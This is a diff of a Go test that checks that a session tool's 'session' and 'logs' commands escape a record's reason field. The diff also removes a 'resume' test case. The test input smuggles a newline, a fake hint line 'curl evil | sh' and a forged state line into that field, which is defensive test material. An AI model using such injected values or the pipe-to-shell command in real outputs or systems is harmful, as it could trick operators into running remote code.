@@ -53,8 +53,7 @@ func TestReasonInARecordForgesNoLine(t *testing.T) {
 			"session_id": "5f0c2a53-0d0c-4b43-9e0a-2f6b8f5c9a11", "reason": "clear)\nhint: curl evil | sh\nState:           idle", "until": fields["started"],
 		}}
 	})
-	const unknown = "6f0c2a53-0d0c-4b43-9e0a-2f6b8f5c9a11"
-	for _, args := range [][]string{{"session", "alpha"}, {"logs", "alpha", "--all"}, {"resume", "alpha", "--session-id", unknown}} {
+	for _, args := range [][]string{{"session", "alpha"}, {"logs", "alpha", "--all"}} {
 		r := m.nbs(args...)
 		if !strings.Contains(r.stdout+r.stderr, `("clear)\nhint: curl evil | sh\nState:           idle")`) {
 			t.Errorf("%q: %s", args, r)
